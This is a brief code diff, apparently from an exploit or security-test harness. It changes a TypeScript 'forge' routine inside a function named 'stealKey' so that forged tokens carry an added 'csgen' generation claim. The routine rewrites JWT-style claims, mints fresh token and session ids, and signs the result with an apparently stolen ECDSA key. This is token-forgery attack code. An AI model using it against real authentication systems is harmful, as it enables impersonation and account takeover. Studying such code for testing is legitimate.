@@ -29,7 +29,12 @@ export async function stealKey({ log, instances }: Stage, { kid }: Token): Promi
     forge({ text }) {
       const [head = '', payload = ''] = text.split('.');
       const claims = z.looseObject({ iat: z.number(), exp: z.number() }).parse(decoded(payload));
-      const generations = { gen: GENERATION, cgen: GENERATION, igen: GENERATION };
+      const generations = {
+        gen: GENERATION,
+        cgen: GENERATION,
+        csgen: GENERATION,
+        igen: GENERATION,
+      };
       const forged = { ...claims, ...generations, jti: newId('tok'), sid: newId('ses') };
       const signed = `${head}.${Buffer.from(JSON.stringify(forged)).toString('base64url')}`;
       const signature = sign('sha256', Buffer.from(signed), { key, dsaEncoding: 'ieee-p1363' });
